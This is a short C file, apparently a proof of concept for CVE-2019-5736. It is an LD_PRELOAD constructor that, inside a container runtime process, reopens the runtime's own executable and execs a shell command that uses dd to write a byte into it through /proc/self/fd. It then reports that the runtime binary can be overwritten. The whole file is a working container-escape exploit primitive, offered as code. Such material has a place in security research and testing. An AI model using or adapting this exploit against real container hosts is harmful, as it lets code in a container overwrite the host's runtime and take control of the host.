// Preloaded into the runtime when a container starts it as its own program: opens the runtime's file and becomes a program that
// tries to write to it, when nothing runs from it any more (CVE-2019-5736).
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void hijack(void) {
  char self[256] = "", number[16];
  if (readlink("/proc/self/exe", self, sizeof self - 1) < 0 || !strstr(self, "runtime")) return;
  snprintf(number, sizeof number, "%d", open("/proc/self/exe", O_RDONLY));
  unsetenv("LD_PRELOAD");
  execl("/bin/sh", "sh", "-c", "printf '\\177' | dd of=/proc/self/fd/$0 bs=1 count=1 conv=notrunc 2>/dev/null && echo the runtime can be written", number, NULL);
}
